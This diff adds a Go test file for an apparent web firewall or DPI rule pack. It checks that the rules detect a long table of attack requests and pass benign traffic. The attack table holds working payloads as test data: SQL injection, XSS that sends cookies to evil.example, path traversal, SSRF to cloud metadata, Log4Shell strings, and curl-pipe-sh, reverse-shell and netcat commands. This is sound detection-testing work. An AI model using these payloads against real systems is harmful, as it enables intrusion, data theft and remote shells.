@@ -1,0 +1,316 @@
+package rules
+
+import (
+	"net/url"
+	"sort"
+	"strings"
+	"testing"
+)
+
+// txn is one HTTP exchange as the DPI engine would present it.
+type txn struct {
+	uri     string // request target: path?query
+	headers [][2]string
+	body    string
+	resp    string
+}
+
+var browserHeaders = [][2]string{
+	{"Host", "shop.example.com"},
+	{"User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
+	{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
+	{"Accept-Language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7,fr;q=0.6"},
+	{"Accept-Encoding", "gzip, deflate, br, zstd"},
+	{"sec-ch-ua", `"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"`},
+	{"sec-ch-ua-mobile", "?0"},
+	{"sec-ch-ua-platform", `"Windows"`},
+	{"Sec-Fetch-Site", "same-origin"},
+	{"Sec-Fetch-Mode", "navigate"},
+	{"Referer", "https://shop.example.com/search?q=caf%C3%A9+cr%C3%A8me&sort=price_asc&page=2"},
+	{"Cookie", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c; prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22de%22%7D; cart=" + strings.Repeat("Zm9vYmFyYmF6cXV4", 180)},
+	{"If-None-Match", `W/"5e-18f3a1b2c4d"`},
+	{"Upgrade-Insecure-Requests", "1"},
+}
+
+func (t txn) fields() Fields {
+	f := Fields{}
+	f[Field{Kind: FieldHTTPMethod}] = []byte("GET")
+	f[Field{Kind: FieldHTTPURI}] = []byte(t.uri)
+	path, query, _ := strings.Cut(t.uri, "?")
+	f[Field{Kind: FieldHTTPPath}] = []byte(path)
+	if query != "" {
+		f[Field{Kind: FieldHTTPArgs}] = []byte(query)
+	}
+	hdrs := t.headers
+	if hdrs == nil {
+		hdrs = browserHeaders
+	}
+	var all strings.Builder
+	for _, h := range hdrs {
+		all.WriteString(h[0] + ": " + h[1] + "\r\n")
+		f[Field{Kind: FieldHTTPHeader, Name: strings.ToLower(h[0])}] = []byte(h[1])
+	}
+	f[Field{Kind: FieldHTTPHeaders}] = []byte(all.String())
+	if t.body != "" {
+		f[Field{Kind: FieldHTTPBody}] = []byte(t.body)
+		f[Field{Kind: FieldHTTPMethod}] = []byte("POST")
+	}
+	if t.resp != "" {
+		f[Field{Kind: FieldHTTPResponseBody}] = []byte(t.resp)
+	}
+	return f
+}
+
+func withHeader(name, value string) [][2]string {
+	h := append([][2]string{}, browserHeaders...)
+	for i := range h {
+		if strings.EqualFold(h[i][0], name) {
+			h[i][1] = value
+			return h
+		}
+	}
+	return append(h, [2]string{name, value})
+}
+
+func q(s string) string { return url.QueryEscape(s) }
+
+// packAttacks must each hit at least one enabled rule of the category.
+var packAttacks = []struct {
+	name, category string
+	t              txn
+}{
+	// SQL injection
+	{"sqli tautology quoted", "sqli", txn{uri: "/item?id=1%27%20OR%20%271%27%3D%271"}},
+	{"sqli tautology numeric", "sqli", txn{uri: "/item?id=1+or+1%3D1"}},
+	{"sqli tautology and 5=5 comment", "sqli", txn{uri: "/item?id=5+AND+5%3D5--"}},
+	{"sqli union select", "sqli", txn{uri: "/item?id=1+UNION+SELECT+username,password+FROM+users--"}},
+	{"sqli union all select comments", "sqli", txn{uri: "/item?id=-1/**/UNION/**/ALL/**/SELECT/**/1,2,3"}},
+	{"sqli union mysql exec comment", "sqli", txn{uri: "/item?id=-1+UNION/*!50000SELECT*/1,2"}},
+	{"sqli double encoded", "sqli", txn{uri: "/item?id=1%2527%2520union%2520select%2520null--"}},
+	{"sqli sleep", "sqli", txn{uri: "/item?id=1+AND+SLEEP(5)"}},
+	{"sqli benchmark", "sqli", txn{uri: "/item?id=1+and+benchmark(5000000,md5(1))"}},
+	{"sqli waitfor", "sqli", txn{uri: "/item?id=1;WAITFOR+DELAY+'0:0:5'--"}},
+	{"sqli stacked drop", "sqli", txn{uri: "/item?id=1;DROP+TABLE+users--"}},
+	{"sqli admin comment", "sqli", txn{uri: "/login?user=admin%27--&pass=x"}},
+	{"sqli error based", "sqli", txn{uri: "/item?q=1%27+AND+extractvalue(1,concat(0x7e,version()))--+-"}},
+	{"sqli information_schema", "sqli", txn{uri: "/item?id=1+union+select+table_name+from+information_schema.tables"}},
+	{"sqli into outfile", "sqli", txn{uri: "/item?id=1+into+outfile+'/var/www/x.php'"}},
+	{"sqli json body", "sqli", txn{uri: "/api/login", body: `{"user":"admin' OR 1=1-- -","password":"x"}`}},
+	{"sqli json unicode escaped", "sqli", txn{uri: "/api/items", body: `{"id":"1\u0027 union select password from users--"}`}},
+	{"sqli form body", "sqli", txn{uri: "/login", body: "user=admin%27+or+%271%27%3D%271&pass=x"}},
+	{"sqli cookie", "sqli", txn{uri: "/", headers: withHeader("Cookie", "lang=en; id=1' or '1'='1")}},
+	{"sqli char()", "sqli", txn{uri: "/item?id=1+and+char(65,66,67)=char(65,66,67)"}},
+	{"sqli login bypass in password", "sqli", txn{uri: "/login", body: "user=admin&password=%27+or+%27x%27%3D%27x"}},
+	{"sqli json password", "sqli", txn{uri: "/api/login", body: `{"user":"admin","password":"' or 1=1 or '"}`}},
+	{"sqli hex encoded union", "sqli", txn{uri: "/item?id=-1%20%55%4e%49%4f%4e%20%53%45%4c%45%43%54%201,2"}},
+	{"sqli stacked shutdown", "sqli", txn{uri: "/item?id=1;shutdown--"}},
+	{"sqli pg_sleep", "sqli", txn{uri: "/item?id=1)%3Bselect+pg_sleep(10)--"}},
+	// XSS
+	{"xss script", "xss", txn{uri: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"}},
+	{"xss script double encoded", "xss", txn{uri: "/search?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E"}},
+	{"xss img onerror", "xss", txn{uri: "/search?q=" + q(`<img src=x onerror=alert(1)>`)}},
+	{"xss svg onload", "xss", txn{uri: "/search?q=" + q(`<svg/onload=alert(document.domain)>`)}},
+	{"xss attribute break", "xss", txn{uri: "/search?q=" + q(`" onmouseover="alert(1)`)}},
+	{"xss javascript uri", "xss", txn{uri: "/redirect?url=javascript:alert(1)"}},
+	{"xss javascript tab", "xss", txn{uri: "/redirect?url=java%09script:alert(1)"}},
+	{"xss javascript entities", "xss", txn{uri: "/redirect?url=" + q("&#106;&#97;vascript&colon;alert(1)")}},
+	{"xss data uri", "xss", txn{uri: "/redirect?url=" + q("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")}},
+	{"xss iframe", "xss", txn{uri: "/search?q=" + q(`<iframe src="//evil.example/x">`)}},
+	{"xss body comment", "xss", txn{uri: "/comment", body: "name=bob&text=" + q(`nice post <script src=//evil.example/x.js></script>`)}},
+	{"xss body json", "xss", txn{uri: "/api/comment", body: `{"text":"<img src=x onerror=\"fetch('//e.example/'+document.cookie)\">"}`}},
+	{"xss alert backtick", "xss", txn{uri: "/search?q=" + q("';alert`1`//")}},
+	{"xss body onload", "xss", txn{uri: "/search?q=" + q(`<body onload=alert(1)>`)}},
+	{"xss details ontoggle", "xss", txn{uri: "/search?q=" + q(`<details open ontoggle=alert(1)>`)}},
+	{"xss js string break", "xss", txn{uri: "/search?q=" + q(`';document.location='//evil.example/?c='+document.cookie;//`)}},
+	{"xss unicode escaped", "xss", txn{uri: "/search?q=" + q(`\u003cscript\u003ealert(1)\u003c/script\u003e`)}},
+	// Path traversal and file access
+	{"lfi param", "lfi", txn{uri: "/download?file=../../../../etc/passwd"}},
+	{"lfi encoded", "lfi", txn{uri: "/download?file=..%2f..%2f..%2fetc%2fpasswd"}},
+	{"lfi dot encoded", "lfi", txn{uri: "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow"}},
+	{"lfi double encoded", "lfi", txn{uri: "/download?file=..%252f..%252f..%252fetc%252fpasswd"}},
+	{"lfi windows", "lfi", txn{uri: "/download?file=..\\..\\..\\windows\\win.ini"}},
+	{"lfi overlong utf8", "lfi", txn{uri: "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"}},
+	{"lfi iis unicode", "lfi", txn{uri: "/download?file=%uff0e%uff0e%u2215etc%u2215passwd"}},
+	{"lfi path", "lfi", txn{uri: "/static/..%2f..%2f..%2fetc/passwd"}},
+	{"lfi proc environ", "lfi", txn{uri: "/view?page=/proc/self/environ"}},
+	{"lfi git", "lfi", txn{uri: "/.git/config"}},
+	{"lfi env", "lfi", txn{uri: "/.env"}},
+	{"lfi env encoded", "lfi", txn{uri: "/%2e%65nv"}},
+	{"lfi body", "lfi", txn{uri: "/api/render", body: `{"template":"../../../../etc/passwd"}`}},
+	{"lfi file scheme body", "lfi", txn{uri: "/api/fetch", body: `{"src":"file:///etc/passwd"}`}},
+	// Command injection
+	{"rce semicolon cat", "rce", txn{uri: "/ping?host=127.0.0.1;cat+/etc/passwd"}},
+	{"rce pipe id", "rce", txn{uri: "/ping?host=127.0.0.1|id"}},
+	{"rce whoami", "rce", txn{uri: "/ping?host=127.0.0.1%3Bwhoami"}},
+	{"rce backticks", "rce", txn{uri: "/ping?host=%60id%60"}},
+	{"rce subshell curl", "rce", txn{uri: "/ping?host=" + q("$(curl http://evil.example/x.sh|sh)")}},
+	{"rce and wget", "rce", txn{uri: "/ping?host=" + q("1.1.1.1&&wget http://evil.example/x -O /tmp/x")}},
+	{"rce quote obfuscated", "rce", txn{uri: "/ping?host=" + q(`x;c'a't /e't'c/pa''ss""wd`)}},
+	{"rce backslash obfuscated", "rce", txn{uri: "/ping?host=" + q(`x;w\h\o\a\m\i`)}},
+	{"rce brace expansion", "rce", txn{uri: "/ping?host=" + q(";{cat,/etc/passwd}")}},
+	{"rce ifs", "rce", txn{uri: "/ping?host=" + q(";cat${IFS}/etc/passwd")}},
+	{"rce reverse shell", "rce", txn{uri: "/ping?host=" + q("bash -i >& /dev/tcp/198.18.0.9/4444 0>&1")}},
+	{"rce netcat", "rce", txn{uri: "/ping?host=" + q("x; nc -e /bin/sh 198.18.0.9 4444")}},
+	{"rce powershell", "rce", txn{uri: "/run?c=" + q("powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=")}},
+	{"rce cmd.exe", "rce", txn{uri: "/run?c=" + q("x & cmd.exe /c dir")}},
+	{"rce shellshock", "rce", txn{uri: "/cgi-bin/status", headers: withHeader("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")}},
+	{"rce body", "rce", txn{uri: "/api/ping", body: `{"host":"127.0.0.1; curl http://evil.example/x | sh"}`}},
+	// SSRF
+	{"ssrf aws metadata", "ssrf", txn{uri: "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"}},
+	{"ssrf aws metadata encoded", "ssrf", txn{uri: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"}},
+	{"ssrf gcp", "ssrf", txn{uri: "/fetch?url=http://metadata.google.internal/computeMetadata/v1/"}},
+	{"ssrf aws ipv6", "ssrf", txn{uri: "/fetch?url=" + q("http://[fd00:ec2::254]/latest/meta-data/")}},
+	{"ssrf decimal", "ssrf", txn{uri: "/fetch?url=http://2852039166/latest/"}},
+	{"ssrf hex", "ssrf", txn{uri: "/fetch?url=http://0xa9fea9fe/latest/"}},
+	{"ssrf mapped v6", "ssrf", txn{uri: "/fetch?url=" + q("http://[::ffff:a9fe:a9fe]/latest/")}},
+	{"ssrf alibaba", "ssrf", txn{uri: "/fetch?url=http://100.100.100.200/latest/meta-data/"}},
+	{"ssrf ecs task", "ssrf", txn{uri: "/fetch?url=http://169.254.170.2/v2/credentials/abc"}},
+	{"ssrf gopher", "ssrf", txn{uri: "/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL"}},
+	{"ssrf file", "ssrf", txn{uri: "/fetch?url=file:///etc/passwd"}},
+	{"ssrf body", "ssrf", txn{uri: "/api/webhook", body: `{"callback":"http://169.254.169.254/latest/user-data"}`}},
+	{"ssrf host header", "ssrf", txn{uri: "/latest/meta-data/", headers: withHeader("Host", "169.254.169.254")}},
+	// Java
+	{"log4shell ua", "java", txn{uri: "/", headers: withHeader("User-Agent", "${jndi:ldap://evil.example/a}")}},
+	{"log4shell lower", "java", txn{uri: "/", headers: withHeader("X-Api-Version", "${${lower:j}ndi:ldap://evil.example/a}")}},
+	{"log4shell default values", "java", txn{uri: "/", headers: withHeader("Referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}")}},
+	{"log4shell k8s", "java", txn{uri: "/", headers: withHeader("X-Forwarded-For", "${j${k8s:k5:-ND}i:ldap://evil.example/a}")}},
+	{"log4shell env", "java", txn{uri: "/", headers: withHeader("User-Agent", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}")}},
+	{"log4shell mixed case", "java", txn{uri: "/", headers: withHeader("User-Agent", "${jNdI:LdAp://evil.example/a}")}},
+	{"log4shell query", "java", txn{uri: "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"}},
+	{"log4shell body unicode", "java", txn{uri: "/api/log", body: `{"msg":"\u0024\u007bjndi:ldap://evil.example/a}"}`}},
+	{"log4shell html entities", "java", txn{uri: "/?x=" + q("&dollar;&lbrace;jndi:ldap://evil.example/a&rbrace;")}},
+	{"spring4shell", "java", txn{uri: "/", body: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"}},
+	{"java deserialization", "java", txn{uri: "/api/obj", body: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg"}},
+	{"java runtime exec", "java", txn{uri: "/eval?expr=" + q("T(java.lang.Runtime).getRuntime().exec('id')")}},
+	{"struts ognl", "java", txn{uri: "/upload.action", headers: withHeader("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}")}},
+	// Scanners and protocol
+	{"scanner sqlmap", "scanner", txn{uri: "/", headers: withHeader("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")}},
+	{"scanner nikto", "scanner", txn{uri: "/", headers: withHeader("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")}},
+	{"scanner nuclei", "scanner", txn{uri: "/", headers: withHeader("User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")}},
+	{"crlf injection", "protocol", txn{uri: "/redirect?next=%0d%0aSet-Cookie:%20admin=1"}},
+	{"null byte", "protocol", txn{uri: "/download/report.php%00.pdf"}},
+	// DLP
+	{"dlp visa", "dlp", txn{uri: "/api/me", resp: `{"name":"Jane","card":"4111 1111 1111 1111","exp":"12/29"}`}},
+	{"dlp mastercard dashes", "dlp", txn{uri: "/api/me", resp: "card: 5500-0000-0000-0004\n"}},
+	{"dlp amex", "dlp", txn{uri: "/api/me", resp: "amex=378282246310005;"}},
+	{"dlp ssn", "dlp", txn{uri: "/api/me", resp: `{"ssn":"536-22-8726"}`}},
+	{"dlp aws key", "dlp", txn{uri: "/debug", resp: "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"}},
+	{"dlp aws secret", "dlp", txn{uri: "/debug", resp: "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"}},
+	{"dlp private key", "dlp", txn{uri: "/backup", resp: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"}},
+	{"dlp github token", "dlp", txn{uri: "/debug", resp: "token: ghp_" + strings.Repeat("aB3", 12) + "\n"}},
+	{"dlp jwt in url", "dlp", txn{uri: "/ws?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"}},
+	{"dlp key sent by client", "dlp", txn{uri: "/upload", body: "-----BEGIN RSA PRIVATE KEY-----\nMIIEow...\n"}},
+	{"dlp iban", "dlp", txn{uri: "/api/me", resp: `{"iban":"DE89 3704 0044 0532 0130 00"}`}},
+}
+
+// packBenign must not hit any enabled rule.
+var packBenign = []struct {
+	name string
+	t    txn
+}{
+	{"home page", txn{uri: "/"}},
+	{"static asset", txn{uri: "/static/js/app.3f9a2b1c.chunk.js?v=1700000000"}},
+	{"rest listing", txn{uri: "/api/v1/users/123/orders?status=open&sort=-created_at&page=2&per_page=50&fields=id,total,items(sku,qty)"}},
+	{"search non-ascii", txn{uri: "/search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e&lang=fr"}},
+	{"search cyrillic", txn{uri: "/search?q=" + q("Привет, мир! Как дела?") + "&lang=ru"}},
+	{"search chinese emoji", txn{uri: "/search?q=" + q("北京 烤鸭 🦆 最好的餐厅")}},
+	{"search punctuation", txn{uri: "/search?q=" + q(`Tom & Jerry; "the movie" (1992) - 50% off! #1 <3`)}},
+	{"search english sql-ish words", txn{uri: "/search?q=" + q("select the best union jobs from our list and update your settings, or drop us a line")}},
+	{"search shell-ish words", txn{uri: "/search?q=" + q("cat food & dog food; find more | echo dot")}},
+	{"search apostrophes", txn{uri: "/search?q=" + q("O'Reilly's book: don't panic -- it's fine #2")}},
+	{"oauth callback", txn{uri: "/oauth/callback?code=4%2F0AfJohXn-abc_DEF123&state=xyz%3D%3D&scope=openid+email+profile"}},
+	{"redirect https", txn{uri: "/login?next=%2Faccount%2Fsettings%3Ftab%3Dsecurity&redirect=https%3A%2F%2Fshop.example.com%2Fcart"}},
+	{"tracking params", txn{uri: "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&gclid=Cj0KCQjw-r-vBhC-ARIsAGgUO2Dx&fbclid=IwAR2xYz"}},
+	{"date range", txn{uri: "/reports?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59%2B01:00&tz=Europe%2FBerlin"}},
+	{"file name param", txn{uri: "/files?name=annual-report.v2.final.pdf&dir=%2Fusers%2Fanna%2Fdocuments"}},
+	{"math expression", txn{uri: "/calc?expr=" + q("(3+4)*2 = 14 and 10 > 9 or 1 < 2")}},
+	{"json api post", txn{uri: "/api/v1/orders", body: `{"customer":{"name":"José Müller-Lüdenscheidt","email":"jose.mueller@example.com","phone":"+49 30 1234567"},"items":[{"sku":"ABC-123","qty":2,"price":19.99},{"sku":"XYZ-9","qty":1,"price":5}],"note":"Please deliver after 5pm; ring twice & leave at the door (back entrance). Thanks!","coupon":null,"gift":false}`}},
+	{"json with code-like text", txn{uri: "/api/v1/notes", body: `{"title":"Meeting notes","body":"We selected the vendor from the shortlist. Action items: update the wiki; drop the old branch; create a ticket for QA.\nNext: review ${budget} line items","tags":["q3","planning"]}`}},
+	{"json template literal", txn{uri: "/api/v1/snippets", body: "{\"lang\":\"js\",\"code\":\"const greet = (name) => `Hello ${name}!`; console.log(greet('world'));\"}"}},
+	{"form post punctuation", txn{uri: "/contact", body: "name=O%27Brien%2C+Se%C3%A1n&email=sean%40example.ie&subject=Question+about+order+%2312345&message=Hi%21+I+ordered+2+items+%28a+%26+b%29+on+Monday%3B+only+one+arrived.+Price+was+%2449.99+-+can+you+check%3F+Danke+sch%C3%B6n+%E2%80%94+S."}},
+	{"form post multiline text", txn{uri: "/support", body: "ticket=" + q("Hello,\nI cannot log in since yesterday.\nI tried: clearing cookies, another browser.\nfind attached the screenshot.\nsleep mode on my laptop may be related?\nRegards, Anna") + "&priority=normal"}},
+	{"login form", txn{uri: "/login", body: "username=anna.schmidt&password=S3cr3t%21%40%23%24%25%5E%26*()_%2B-%3D&remember=on&csrf=9f8e7d6c5b4a"}},
+	{"html-ish but safe text", txn{uri: "/api/v1/comments", body: `{"text":"I <3 this product! 5 > 4 and a < b is true. Use <b>bold</b> sparingly."}`}},
+	{"graphql", txn{uri: "/graphql", body: `{"query":"query GetUser($id: ID!) { user(id: $id) { id name orders(first: 10) { edges { node { id total } } } } }","variables":{"id":"VXNlcjoxMjM="},"operationName":"GetUser"}`}},
+	{"base64 image upload", txn{uri: "/api/v1/avatar", body: `{"image":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`}},
+	{"ldap-ish but benign", txn{uri: "/api/v1/settings", body: `{"theme":"dark","locale":"en_US","timezone":"America/New_York","notifications":{"email":true,"sms":false},"homepage":"https://example.com/dashboard?view=compact"}`}},
+	{"relative link", txn{uri: "/docs/guide/intro.html?ref=sidebar"}},
+	{"api key header", txn{uri: "/api/v1/data", headers: withHeader("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjFlOWdkazcifQ.ewogImlzcyI6ICJodHRwOi8vc2VydmVyLmV4YW1wbGUuY29tIn0.ggW8hZ1EuVLuxNuuIJKX_V8a_OMXzR0EHR9R6jgdqrOOF4daGU96Sr_P6qJp6IcmD3HP99Obi1PRs")}},
+	{"mobile app ua", txn{uri: "/api/v2/feed", headers: withHeader("User-Agent", "MyApp/5.12.1 (iPhone; iOS 17.4.1; Scale/3.00) Alamofire/5.8.0")}},
+	{"curl ua", txn{uri: "/healthz", headers: withHeader("User-Agent", "curl/8.5.0")}},
+	{"response html", txn{uri: "/", resp: "<!doctype html><html><head><title>Shop</title><script src=\"/static/app.js\"></script></head><body onload=\"init()\"><p>Order #1234567890123 shipped on 2024-01-15. Call +1 (555) 123-4567.</p></body></html>"}},
+	{"response json numbers", txn{uri: "/api/v1/orders", resp: `{"orders":[{"id":4111111111111112,"tracking":"1Z999AA10123456784","created":1700000000123,"total":"1234.56","phone":"555-123-4567","ref":"000-12-3456","uuid":"123e4567-e89b-12d3-a456-426614174000","iban_like":"DE00 1234 5678 9012 3456 78"}]}`}},
+	{"response jwt disabled rule", txn{uri: "/api/login", resp: `{"access_token":"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U","expires_in":3600}`}},
+	{"json with dashes and quotes", txn{uri: "/api/v1/reviews", body: `{"title":"Tom's review -- really great!","text":"5/5 -- would buy again; the 'pro' model is #1 in my list.","rating":5}`}},
+	{"form with sql words", txn{uri: "/feedback", body: "subject=Select+a+plan&body=" + q("I want to update my plan, delete old invoices from 2022 and insert a note: union members get 10% off? Or not; drop me a line.")}},
+	{"basic auth and api headers", txn{uri: "/api/v1/me", headers: append(withHeader("Authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"), [2]string{"X-Request-ID", "3f2b9c1e-8d4a-4f6b-9e2a-1c5d7e8f9a0b"}, [2]string{"X-Forwarded-For", "198.18.0.7, 198.18.0.8"}, [2]string{"Content-Type", "application/json; charset=utf-8"})}},
+	{"search with operators", txn{uri: "/search?q=" + q(`"exact phrase" -exclude site:example.com OR (a AND b) | c`)}},
+	{"url in parameter", txn{uri: "/share?url=" + q("https://news.example.com/2024/01/15/article-title?ref=home&utm_source=x") + "&title=" + q("Breaking: what's next?")}},
+	{"multipart upload", txn{uri: "/upload", body: "--boundary123\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.csv\"\r\nContent-Type: text/csv\r\n\r\nid,name,amount\n1,Anna,12.50\n2,\"Müller, Jörg\",7.00\n--boundary123--\r\n"}},
+	{"response mentions aws generically", txn{uri: "/docs", resp: "Set AWS_SECRET_ACCESS_KEY in your environment; never commit it. See https://docs.aws.amazon.com/."}},
+}
+
+func compiledPack(tb testing.TB) (*Compiled, *Set) {
+	tb.Helper()
+	set, err := DefaultPack()
+	if err != nil {
+		tb.Fatal(err)
+	}
+	c, err := Compile(set)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	tb.Cleanup(func() { c.Close() })
+	return c, set
+}
+
+func evalTxn(tb testing.TB, c *Compiled, t txn) []*Rule {
+	tb.Helper()
+	s, err := c.NewScratch()
+	if err != nil {
+		tb.Fatal(err)
+	}
+	defer s.Free()
+	hits, err := c.Eval(t.fields(), s)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	return hits
+}
+
+func ruleIDs(rs []*Rule) []uint32 {
+	out := make([]uint32, len(rs))
+	for i, r := range rs {
+		out[i] = r.ID
+	}
+	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
+	return out
+}
+
+func TestDefaultPackDetects(t *testing.T) {
+	c, _ := compiledPack(t)
+	for _, tc := range packAttacks {
+		t.Run(tc.name, func(t *testing.T) {
+			hits := evalTxn(t, c, tc.t)
+			for _, r := range hits {
+				if r.Category == tc.category {
+					return
+				}
+			}
+			t.Errorf("%s: no %s rule hit %+v (hits: %v)", tc.name, tc.category, tc.t, ruleIDs(hits))
+		})
+	}
+}
+
+func TestDefaultPackNoFalsePositives(t *testing.T) {
+	c, _ := compiledPack(t)
+	for _, tc := range packBenign {
+		t.Run(tc.name, func(t *testing.T) {
+			if hits := evalTxn(t, c, tc.t); len(hits) > 0 {
+				for _, r := range hits {
+					t.Errorf("%s: rule %d (%s) hit benign traffic %+v", tc.name, r.ID, r.Name, tc.t)
+				}
+			}
+		})
+	}
+}
